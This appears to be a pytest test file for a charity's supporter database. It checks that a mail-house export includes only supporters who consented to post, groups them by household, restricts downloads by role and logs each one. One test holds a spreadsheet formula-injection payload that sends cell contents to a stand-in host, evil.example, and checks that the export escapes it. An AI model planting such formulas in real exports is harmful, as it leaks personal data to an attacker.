"""Supporters → ⋯ → Mail-house file: a line per household for a letter, from
supporters whose current consent covers post, who are alive, not erased, not
suppressed and have an address a letter can reach; Fundraising's (and
superusers') only; every download kept in the export log."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.test import Client

from supporters import services
from supporters.exports import MailHouseExport, mailing_list_queryset
from supporters.models import ExportRecord
from tests.helpers import log_in_verified

pytestmark = pytest.mark.django_db

URL = "/admin/supporter/mail-house/"


def _post_ok(supporter, granted=True):
    services.consent_record(supporter=supporter, channel="post", granted=granted, method="paper",
                            wording="Yes, send me news by post")
    return supporter


def _csv(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))


def _xlsx(response):
    assert response.status_code == 200, response
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    header, *rows = list(sheet.iter_rows())
    return [dict(zip([cell.value for cell in header], row)) for row in rows]


def _by_reference(rows):
    return {row["References"]: row for row in rows}


def test_only_those_a_letter_may_reach_are_in_the_file(fundraiser_client, supporter_factory):
    def person(**fields):
        fields.setdefault("address_house", str(supporter_factory._meta.model.objects.count() + 1))
        return supporter_factory(**fields)

    wanted = _post_ok(person())
    email_only = person()
    services.consent_record(supporter=email_only, channel="email", granted=True, method="web_form", wording="Email")
    withdrew = _post_ok(_post_ok(person()), granted=False)
    died = _post_ok(person(deceased_on=datetime.date(2026, 1, 5)))
    gone_away = _post_ok(person(postal_suppression="gone_away"))
    on_mps = _post_ok(person(postal_suppression="mps"))
    no_address = _post_ok(person(address_house="", address_street=""))
    uk_without_postcode = _post_ok(person(postcode=""))
    erased = _post_ok(person())
    services.supporter_erase(supporter=erased, reason="SAR-7")
    # The erased mark alone keeps someone out, whatever else their row still holds.
    marked_erased = _post_ok(person())
    type(marked_erased).objects.filter(pk=marked_erased.pk).update(erased_at=datetime.datetime.now(datetime.UTC))
    assert email_only and withdrew and died and gone_away and on_mps and no_address and uk_without_postcode

    rows = _csv(fundraiser_client.get(URL))
    assert [row["References"] for row in rows] == [wanted.reference]
    assert rows[0]["People"] == "1"


def test_two_people_at_one_address_make_one_line_addressed_to_both(fundraiser_client, supporter_factory):
    # Between the two at No. 12 in name order comes someone else: the file must still group by address.
    ann = _post_ok(supporter_factory(title="Mrs", first_name="Ann", last_name="Adams", address_house="12",
                                     address_street="High Street", address_town="London", postcode="N16 8AA"))
    bob = _post_ok(supporter_factory(title="Mr", first_name="Bob", last_name="Brown", address_house="14",
                                     address_street="High Street", address_town="London", postcode="N16 8AA"))
    # The same address typed otherwise (as an old import might have it): capitals and spaces differ.
    zoe = _post_ok(supporter_factory(title="", first_name="Zoe", preferred_name="Zo", last_name="Young",
                                     address_house="12", address_street="HIGH  street", address_town="London",
                                     postcode="n168aa"))
    flat = _post_ok(supporter_factory(first_name="Cy", last_name="Cole", address_house="Flat 2, Rose Court",
                                      address_street="Mill Lane", address_locality="Stoke Newington",
                                      address_town="London", address_county="Greater London", postcode="N16 9AB"))

    rows = _by_reference(_csv(fundraiser_client.get(URL)))
    assert set(rows) == {f"{ann.reference}; {zoe.reference}", bob.reference, flat.reference}
    pair = rows[f"{ann.reference}; {zoe.reference}"]
    assert pair["Addressee"] == "Mrs Ann Adams and Zoe Young"
    assert pair["Salutation"] == "Dear Ann and Zo"
    assert pair["People"] == "2"
    assert pair["Town"] == "London"
    assert rows[bob.reference]["Addressee"] == "Mr Bob Brown"
    assert (rows[bob.reference]["Address 1"], rows[bob.reference]["Address 2"]) == ("14 High Street", "")
    named = rows[flat.reference]
    assert [named[f"Address {n}"] for n in range(1, 6)] == ["Flat 2, Rose Court", "Mill Lane", "Stoke Newington", "", ""]
    assert (named["Town"], named["County"], named["Postcode"], named["Country"]) == (
        "London", "Greater London", "N16 9AB", "United Kingdom")


def test_three_of_one_name_are_one_household_and_the_grouping_holds_across_reads(fundraiser, supporter_factory):
    family = [_post_ok(supporter_factory(first_name=name, last_name="Okafor", address_house="3",
                                         address_street="Elm Road", postcode="M1 1AE")) for name in ("Ada", "Ben", "Chi")]
    others = [_post_ok(supporter_factory(address_house=str(number), address_street="Elm Road", postcode="M1 1AE"))
              for number in (1, 5, 7)]
    export = MailHouseExport()
    export.chunk_size = 2  # households split across the database's reads
    households = list(export.items())
    assert [len(household.people) for household in households].count(3) == 1
    assert len(households) == 1 + len(others)
    okafors = next(household for household in households if len(household.people) == 3)
    assert okafors.addressee == "The Okafor household"
    assert okafors.salutation == "Dear Ada, Ben and Chi"
    assert {person.pk for person in okafors.people} == {person.pk for person in family}


def test_an_overseas_address_is_kept_as_given(fundraiser_client, supporter_factory):
    paris = _post_ok(supporter_factory(address_house="12", address_street="Rue de Rivoli", address_town="Paris",
                                       postcode="75001", country="FR"))
    hong_kong = _post_ok(supporter_factory(address_house="Flat 5A, Tower 2", address_street="Harbour Road",
                                           address_locality="Wan Chai", address_town="Hong Kong", postcode="",
                                           country="HK"))
    # Two people in Paris at the same address but in a different quarter's line are two lines.
    elsewhere = _post_ok(supporter_factory(address_house="12", address_street="Rue de Rivoli",
                                           address_locality="Le Marais", address_town="Paris", postcode="75001",
                                           country="FR"))

    rows = _by_reference(_csv(fundraiser_client.get(URL)))
    assert set(rows) == {paris.reference, hong_kong.reference, elsewhere.reference}
    assert ([rows[paris.reference][key] for key in ("Address 1", "Town", "Postcode", "Country")]
            == ["12 Rue de Rivoli", "Paris", "75001", "France"])
    hk = rows[hong_kong.reference]
    assert ([hk[key] for key in ("Address 1", "Address 2", "Address 3", "Town", "Postcode", "Country")]
            == ["Flat 5A, Tower 2", "Harbour Road", "Wan Chai", "Hong Kong", "", "Hong Kong"])


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_a_formula_looking_name_is_escaped_in_csv_and_xlsx(fundraiser_client, supporter_factory):
    hostile = _post_ok(supporter_factory(title="", first_name=FORMULA, last_name="Smith", address_house="@home",
                                         address_street="", address_town="-Town"))

    row = _by_reference(_csv(fundraiser_client.get(URL, {"format": "csv"})))[hostile.reference]
    assert row["Addressee"] == f"'{FORMULA} Smith"
    assert row["Address 1"] == "'@home" and row["Town"] == "'-Town"

    response = fundraiser_client.get(URL, {"format": "xlsx"})
    assert response["Content-Disposition"].endswith('.xlsx"')
    cells = next(r for r in _xlsx(response) if r["References"].value == hostile.reference)
    assert (cells["Addressee"].value, cells["Addressee"].data_type) == (f"'{FORMULA} Smith", "s")
    assert (cells["Address 1"].value, cells["Address 1"].data_type) == ("'@home", "s")
    assert (cells["People"].value, cells["People"].data_type) == (1, "n")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_each_role(file_format, fundraiser, finance_user, admin_user, supporter_factory):
    _post_ok(supporter_factory())
    anonymous = Client().get(URL, {"format": file_format})
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous.url
    for user, allowed in ((fundraiser, True), (finance_user, False), (admin_user, True)):
        client = Client(raise_request_exception=False)
        log_in_verified(client, user)
        response = client.get(URL, {"format": file_format})
        if allowed:
            assert response.status_code == 200, (user, response.status_code)
            assert response["Content-Disposition"].endswith(f'.{file_format}"')
        else:  # Wagtail answers a refused member of staff with its dashboard
            assert (response.status_code, response.get("Location")) in ((403, None), (302, "/admin/")), user
    assert list(ExportRecord.objects.order_by("pk").values_list("user_name", "exporter", "file_format", "rows")) == [
        ("fundraiser", "mail_house", file_format, 1), ("admin", "mail_house", file_format, 1)]


def test_the_buttons_are_beside_the_mailing_lists_for_fundraising_only(fundraiser, finance_user):
    for user, shown in ((fundraiser, True), (finance_user, False)):
        client = Client()
        log_in_verified(client, user)
        page = client.get("/admin/supporter/").content.decode()
        assert (f'href="{URL}?format=csv"' in page) is shown
        assert (f'href="{URL}?format=xlsx"' in page) is shown
        assert ("Mailing list: post" in page) is shown


def test_the_post_mailing_list_leaves_out_the_dead_and_the_suppressed(supporter_factory):
    alive = _post_ok(supporter_factory())
    _post_ok(supporter_factory(deceased_on=datetime.date(2025, 12, 1)))
    _post_ok(supporter_factory(postal_suppression="no_contact"))
    assert list(mailing_list_queryset(channel="post")) == [alive]
